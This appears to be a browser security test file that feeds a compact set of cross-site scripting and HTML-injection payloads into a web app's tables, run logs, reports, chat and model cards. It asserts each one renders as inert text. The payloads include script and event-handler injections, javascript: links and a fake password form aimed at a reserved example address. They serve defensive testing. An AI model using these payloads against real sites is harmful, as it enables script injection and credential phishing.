"""Words of strangers in a real Chromium, on a page as a Space shows it: they are read, and do nothing."""

import dataclasses
import json
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page

from core.data.store import TableStore
from core.publishing import card
from core.runs.store import RunStore
from core.settings import Settings
from core.spec import DataChoice, ModelChoice, TrainSpec
from tests.browser.conftest import go
from tests.security.conftest import Space
from tests.security.visitors import Visitor, settings_of
from tests.ui.conftest import report
from ui.draft import DraftStore
from ui.layout import TABS
from ui.text import Text

pytestmark = pytest.mark.browser
# 198.51.100.0/24 is set aside for examples: nobody answers there.
AWAY = "http://198.51.100.1"
HOSTILE = (
    "zebra <img src=x onerror=window.marked=1> </textarea></title></style><script>window.marked=1</script> "
    '"><svg onload=window.marked=1> \'"onmouseover=window.marked=1 x="'
    f" <form action={AWAY}/f><input name=password><button>Sign in</button></form> <iframe src={AWAY}/i></iframe>"
    f" <img src={AWAY}/t.png> ![seen]({AWAY}/m.png) [here](javascript:window.marked=1) <{AWAY}/auto>"
    f" <a href=javascript:window.marked=1>here</a> <style>@import url({AWAY}/s.css);</style>"
    f" <meta http-equiv=refresh content=0;url={AWAY}> <base href={AWAY}> <link rel=stylesheet href={AWAY}/l.css>"
    " <video onloadstart=window.marked=1 src=x></video> ${window.marked=1} {{window.marked=1}} "
    "$\\href{javascript:0}{x}$"
)
FORM = "form:not(.vega-bindings)"  # the charts' own, which is empty
ELEMENTS = (
    FORM, "iframe", "object", "embed", "base[href*='198.51']", "meta[http-equiv=refresh]", "img[src*='198.51']",
    "img[src=x]", "video", "[onerror]", "[onload]", "[onmouseover]", "[onloadstart]", "a[href^='javascript']",
    "a[href*='198.51']", "link[href*='198.51']",
)  # fmt: skip
Open = Callable[[Visitor], Page]


@pytest.fixture
def window(browser: Browser, space: Space) -> Iterator[Open]:
    """Opens the page as a visitor; whatever the browser asks of anybody else is noted, and fails the test."""
    opened: list[Any] = []
    away: list[str] = []
    own = (space.url, "data:", "blob:")

    def open_window(visitor: Visitor) -> Page:
        context = browser.new_context(viewport={"width": 1280, "height": 900}, locale="en-US")
        opened.append(context)
        cookies = [{"name": name, "value": value, "url": space.url} for name, value in visitor.cookies.items()]
        context.add_cookies(cookies)
        page = context.new_page()
        page.set_default_timeout(30_000)
        page.on("requestfinished", lambda r: None if r.url.startswith(own) else away.append(r.url))
        # What the page's own policy forbids never left the browser.
        page.on("requestfailed", lambda r: None if r.url.startswith(own) or r.failure == "csp" else away.append(r.url))
        page.on("dialog", lambda dialog: away.append(f"dialog {dialog.message}"))
        page.goto(space.url)
        page.locator(".ready:visible").wait_for()
        return page

    yield open_window
    for context in opened:
        context.close()
    assert away == []


def hostile_table(place: Settings, owner: str, folder: Path) -> Any:
    """A table whose name, columns, cells and labels all try to be code."""
    path = folder / "table.jsonl"
    rows = [{f"text {HOSTILE}": f"{HOSTILE} {i}", f"label {HOSTILE}": f"{HOSTILE} {i % 3}"} for i in range(24)]
    path.write_text("\n".join(map(json.dumps, rows)), encoding="utf-8")
    return TableStore(place).add(path, owner, f"{HOSTILE[:60]}.jsonl")


def hostile_run(runs: RunStore, owner: str, table: Any, task: str, *, failed: bool = False) -> str:
    """A run whose name, note, log, scores and errors hold such words."""
    columns = dict(zip(("text", "label"), table.columns, strict=True))
    spec = TrainSpec(data=DataChoice(table=table.id, columns=columns, name=HOSTILE), task=task)
    record = runs.create(spec, owner, HOSTILE)
    runs.annotate(record.id, note=HOSTILE)
    folder = runs.folder(record.id)
    (folder / "worker.log").write_text(HOSTILE + "\n")
    state = "FAILED" if failed else "FINISHED"
    told: dict[str, Any] = {"error": {"code": "column_missing", "facts": {"column": HOSTILE, "columns": HOSTILE}}}
    if not failed:
        (folder / "model").mkdir()
        (folder / "model" / "config.json").write_text(json.dumps({"model_type": "bert", "architectures": [HOSTILE]}))
        (folder / "model" / "model.safetensors").write_bytes(b"weights")
        (folder / "report.json").write_text(json.dumps(hostile_report(task)))
        told = {"has_result": True, "headline": {"accuracy": 0.87}}
    for before, after in (("QUEUED", "STARTING"), ("STARTING", "RUNNING"), ("RUNNING", state)):
        attempt = runs.get(record.id).attempt
        runs.transition(record.id, (before,), after, attempt, **(told if after == state else {}))
    return record.id


def hostile_report(task: str) -> dict[str, Any]:
    """A report with such words wherever a run writes words."""
    labels = [f"{HOSTILE} {i}" for i in range(3)]
    told = report(labels)
    told["errors"][0]["text"] = HOSTILE
    told |= {"examples": [HOSTILE], "task": task, "signatures": {HOSTILE: HOSTILE}}
    if task == "chat":
        for name in ("confusion", "per_class", "errors"):
            del told[name]
        told["examples"] = [[{"role": "user", "content": HOSTILE}]]
        told["samples"] = [{"row": 3, "text": HOSTILE, "reference": HOSTILE, "answer": HOSTILE, "before": HOSTILE}]
    return told


def check(page: Page, tab: str) -> None:
    """Nothing of the words has become more than words."""
    assert page.evaluate("window.marked") is None, tab
    for element in ELEMENTS:
        assert page.locator(f".tab-body {element}").count() == 0, f"{element} on {tab}"
    for frame in (FORM, "iframe", "base[href*='198.51']", "meta[http-equiv=refresh]", "link[href*='198.51']"):
        assert page.locator(frame).count() == 0, f"{frame} on {tab}"


def shown(page: Page) -> str:
    """Every word that is to be seen, those in boxes too."""
    return str(
        page.evaluate(
            "document.body.innerText + [...document.querySelectorAll('input, textarea')].map((b) => b.value).join(' ')"
        )
    )


@pytest.mark.parametrize("task", ["classification", "chat", "failed"])
def test_hostile_words_are_read_on_every_tab_and_do_nothing(
    space: Space, window: Open, tmp_path: Path, task: str
) -> None:
    visitor, place = space.visitor(), settings_of(space.home)
    owner, runs = visitor.owner(), RunStore(space.home)
    table = hostile_table(place, owner, tmp_path)
    failed = task == "failed"
    run = hostile_run(runs, owner, table, "classification" if failed else task, failed=failed)
    columns = dict(zip(("text", "label"), table.columns, strict=True))
    model = ModelChoice() if failed else ModelChoice(source="run", name=run)
    DraftStore(space.home).change(owner, table=table.id, columns=columns, run=run, model=model)
    page = window(visitor)
    seen = set()
    for tab in TABS:
        go(page, tab)
        page.locator("[role=tabpanel]:visible .ready").wait_for()
        page.wait_for_timeout(150)
        page.evaluate("document.querySelectorAll('.tab-body button.label-wrap:not(.open)').forEach((b) => b.click())")
        page.wait_for_timeout(150)
        check(page, tab)
        if "zebra" in shown(page):
            seen.add(tab)
    assert {"data", "training"} <= seen
    assert failed or {"model", "results", "tryit"} <= seen
    if task == "chat":
        converse(page, runs.folder(run) / "model" / "config.json")


def converse(page: Page, config: Path) -> None:
    """What was said and what went wrong stand in the conversation and in a note as words."""
    config.unlink()  # so that the model is refused at once
    words = Text("en")
    go(page, "tryit")
    page.get_by_label(words("tryit.chat.said")).fill(HOSTILE)
    page.get_by_role("button", name=words("tryit.chat.send"), exact=True).click()
    page.locator("#chat").get_by_text("zebra").first.wait_for()
    page.get_by_test_id("toast-body").first.wait_for()
    check(page, "tryit")


def test_a_card_made_of_hostile_words_is_text_for_every_reader(space: Space, tmp_path: Path) -> None:
    import yaml
    from markdown_it import MarkdownIt

    visitor, place = space.visitor(), settings_of(space.home)
    table = hostile_table(place, visitor.owner(), tmp_path)
    runs = RunStore(space.home)
    for task in ("classification", "chat"):
        run = hostile_run(runs, visitor.owner(), table, task)
        made = card.for_run(runs, run, visitor.owner(), dataclasses.replace(place), "team/model")
        _, front, body = made.split("---\n", 2)
        assert set(yaml.safe_load(front)) >= {"tags", "model-index"}
        drawn = MarkdownIt("gfm-like", {"html": True, "linkify": False}).render(body)
        bare = re.sub(r"<(?:code|pre)[^>]*>.*?</(?:code|pre)>", "", drawn, flags=re.DOTALL)
        assert not re.search(r"<(?:img|form|script|iframe|svg|style|meta|base|link|video)\b", bare)
        assert not re.search(r"href=\"(?:javascript|http://198)", bare)
